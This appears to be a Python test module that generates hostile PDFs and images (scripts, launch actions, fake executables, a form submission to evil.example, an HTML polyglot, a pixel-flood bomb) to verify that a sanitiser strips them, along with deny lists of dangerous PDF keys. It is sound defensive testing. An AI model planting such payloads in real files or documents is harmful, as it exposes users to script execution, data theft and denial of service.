"""The hostile-file corpus, built here by the tests (no file is checked in), and the checks on what comes out."""

import io
import struct
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image
from PIL.PngImagePlugin import PngInfo

DANGEROUS_KEYS = {"/JS", "/JavaScript", "/OpenAction", "/AA", "/EmbeddedFiles", "/EmbeddedFile", "/AcroForm", "/XFA"}
DANGEROUS_ACTIONS = {"/JavaScript", "/Launch", "/URI", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE"}


def pdf_bytes(pages: int = 1, *, build=None, text: str = "Avis d'imposition") -> bytes:
    """A small real PDF (Helvetica text on each page); `build(pdf)` adds what a test needs."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding)
    )
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(f"BT /F1 24 Tf 72 720 Td ({text} {number}) Tj ET".encode())
    if build:
        build(pdf)
    out = io.BytesIO()
    # Uncompressed, so that tests can look for the text in the bytes.
    pdf.save(out, compress_streams=False)
    return out.getvalue()


def js_action(pdf, code="app.alert('pwned')"):
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(code)))


def with_javascript(pdf):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("evil"), js_action(pdf)])))
    pdf.pages[0].obj.AA = Dictionary(O=js_action(pdf, "app.alert('page open')"))


def with_open_action(pdf):
    pdf.Root.OpenAction = js_action(pdf, "this.submitForm('http://evil.example')")
    pdf.Root.AA = Dictionary(WC=js_action(pdf, "app.alert('close')"))


def with_embedded_file(pdf):
    pdf.attachments["facture.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not really a program")
    spec = Dictionary(
        Type=Name.Filespec, F=String("lettre.exe"), EF=Dictionary(F=pdf.make_stream(b"MZ\x90\x00 another one"))
    )
    annot = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([10, 10, 30, 30]), FS=spec)
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(annot)]))


def with_form(pdf):
    """A filled text field (its appearance shows "Rempli par Mme Durand"), with a JavaScript keystroke action and
    an XFA packet."""
    appearance = pdf.make_stream(
        b"BT /Helv 12 Tf 2 6 Td (Rempli par Mme Durand) Tj ET",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=Array([0, 0, 200, 20]),
        Resources=Dictionary(
            Font=Dictionary(Helv=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        ),
    )
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("nom"),
            V=String("Rempli par Mme Durand"),
            Rect=Array([72, 600, 272, 620]),
            F=4,
            AP=Dictionary(N=appearance),
            AA=Dictionary(K=js_action(pdf, "event.value = 'x'")),
            P=pdf.pages[0].obj,
        )
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([field]))
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]), XFA=pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    )


def with_launch_action(pdf):
    launch = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 72, 200, 100]),
        A=Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\cmd.exe"), NewWindow=True),
    )
    uri = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([72, 120, 200, 140]),
        A=Dictionary(S=Name.URI, URI=String("http://evil.example")),
    )
    rich = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 10, 10]))
    pdf.pages[0].obj.Annots = pdf.make_indirect(
        Array([pdf.make_indirect(launch), pdf.make_indirect(uri), pdf.make_indirect(rich)])
    )


def assert_pdf_is_clean(data: bytes, *, pages: int) -> None:
    """Re-parses a stored PDF: no script, action, attachment, form or annotation anywhere, and every page."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert len(pdf.pages) == pages
        assert not pdf.attachments
        for key in ("/Names", "/OpenAction", "/AA", "/AcroForm"):
            assert key not in pdf.Root
        for obj in pdf.objects:
            if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
                assert not DANGEROUS_KEYS & set(obj.keys()), obj
                assert "/Annots" not in obj
                assert obj.get("/S") not in DANGEROUS_ACTIONS
    for marker in (b"app.alert", b"JavaScript", b"cmd.exe", b"evil.example", b"MZ\x90"):
        assert marker not in data


# Images.


def png_bytes(size=(40, 30), *, mode="RGB", text: dict | None = None, exif: bool = False) -> bytes:
    image = Image.new(mode, size, "white" if mode != "RGBA" else (255, 255, 255, 128))
    out = io.BytesIO()
    info = PngInfo()
    for key, value in (text or {}).items():
        info.add_text(key, value)
    kwargs = {"pnginfo": info}
    if exif:
        data = Image.Exif()
        data[0x010F] = "EvilCam"
        data[0x0131] = "secret software"
        kwargs["exif"] = data.tobytes()
    image.save(out, format="PNG", **kwargs)
    return out.getvalue()


def jpeg_bytes(size=(64, 48), *, gps: bool = False, orientation: int | None = None) -> bytes:
    image = Image.new("RGB", size, (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F] = "EvilCam"
    if orientation:
        exif[0x0112] = orientation
    if gps:
        exif[0x8825] = {1: "N", 2: (49.0, 2.0, 0.0), 3: "W", 4: (1.0, 27.0, 0.0)}
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif.tobytes(), comment=b"a comment")
    return out.getvalue()


def png_html_polyglot() -> bytes:
    """A valid PNG carrying HTML with a script in a text chunk and after its end."""
    html = "<html><body><script>alert(document.cookie)</script></body></html>"
    return png_bytes(text={"Comment": html}) + html.encode()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def pixel_flood_png(width: int = 50_000, height: int = 50_000) -> bytes:
    """A few hundred bytes declaring 2.5 billion pixels (a decompression bomb for whoever decodes it)."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * 1000, 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def truncated_jpeg() -> bytes:
    image = Image.effect_noise((256, 256), 64).convert("RGB")
    out = io.BytesIO()
    image.save(out, format="JPEG", quality=95)
    data = out.getvalue()
    return data[: len(data) // 2]


HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/documents/1/content')</script></body></html>"
